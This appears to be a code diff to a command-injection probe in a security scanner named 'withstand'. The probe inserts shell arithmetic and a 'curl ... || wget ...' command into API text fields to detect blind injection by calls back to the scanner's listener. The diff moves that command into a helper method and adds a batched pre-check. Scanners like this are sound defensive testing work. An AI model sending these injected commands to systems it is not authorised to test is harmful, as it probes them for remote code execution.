@@ -30,15 +30,16 @@ from withstand.scan.probes.inputs import (
     holds_one_form,
     inserted,
     is_invalid,
-    is_login,
     is_number,
     judged,
+    left_alone,
     named,
     number_slots,
     probe,
     text_slots,
     usual_value,
 )
+from withstand.scan.probes.together import cleared
 from withstand.scan.subject import Subject
 
 
@@ -63,6 +64,16 @@ class _Sum:
             rf"{self.word}{self.one + self.other}x|{literal}\s*{self.one * self.other}\b"
         )
 
+    def is_printed(self, exchange: Exchange) -> bool:
+        """Whether an answer has what a shell prints."""
+        response = exchange.response
+        return response is not None and self.printed.search(response.text) is not None
+
+    def calling(self, address: str) -> str:
+        """A command that calls the scan's listener at a path that a shell works out."""
+        url = f"{address}/{self.word}$(({self.one}+{self.other}))"
+        return f"(curl -sm2 {url}||wget -qT2 -O- {url})"
+
     @property
     def in_path(self) -> str:
         """The end of a path that a shell has worked out."""
@@ -70,20 +81,36 @@ class _Sum:
 
 
 def applies(subject: Subject) -> Skipped | None:
-    if subject.operation is not None and subject.operation.removes:
-        return not_applicable("what a DELETE does beyond its object could not be undone")
-    if is_login(subject):
-        return not_applicable("every try at a login counts as a guess")
-    return None if _slots(subject) else not_applicable("it takes no text and no number")
+    if not _slots(subject):
+        return not_applicable("it takes no text and no number")
+    return left_alone(subject, delete="what a DELETE does beyond its object could not be undone")
 
 
 def run(subject: Subject) -> Steps[Outcome]:
     address = yield from listen()
-    return (yield from judged(_slots(subject), partial(_judge, subject, address)))
+    clean = yield from _cleared(subject, address)
+    return (yield from judged(_slots(subject), partial(_judge, subject, address), clean))
 
 
 def _slots(subject: Subject) -> tuple[Slot, ...]:
     return (*text_slots(subject), *number_slots(subject))
+
+
+def _cleared(subject: Subject, address: str | None) -> Steps[frozenset[Slot]]:
+    """The inputs of a creation in which no command is run, all tried at once."""
+    sum_ = _a_sum(subject)
+
+    def tries(slot: Slot) -> Iterator[str]:
+        value = usual_value(subject, slot)
+        yield from (text for _, text in _ways_in(value, sum_))
+        if address is not None:
+            yield inserted(value, _in_any_quotes(sum_.calling(address)))
+
+    slots = [slot for slot in text_slots(subject) if not holds_one_form(slot)]
+    clean = yield from cleared(subject, slots, tries, sum_.is_printed, refusal_clears=True)
+    if clean and address is not None and (yield from calls(sum_.in_path)):
+        return frozenset()
+    return clean
 
 
 def _judge(subject: Subject, address: str | None, slot: Slot) -> Steps[Failed | bool | None]:
@@ -113,11 +140,9 @@ def _judge(subject: Subject, address: str | None, slot: Slot) -> Steps[Failed | 
 
 
 def _unseen(subject: Subject, slot: Slot, address: str) -> Steps[Failed | None]:
-    """A command whose output nobody shows: it calls the scan at a path that a shell works out."""
+    """A command whose output nobody shows: it calls the scan."""
     sum_ = _a_sum(subject)
-    url = f"{address}/{sum_.word}$(({sum_.one}+{sum_.other}))"
-    command = f"(curl -sm2 {url}||wget -qT2 -O- {url})"
-    text = inserted(usual_value(subject, slot), _in_any_quotes(command))
+    text = inserted(usual_value(subject, slot), _in_any_quotes(sum_.calling(address)))
     exchange = yield from probe(subject, slot, text)
     if exchange is None:
         return None
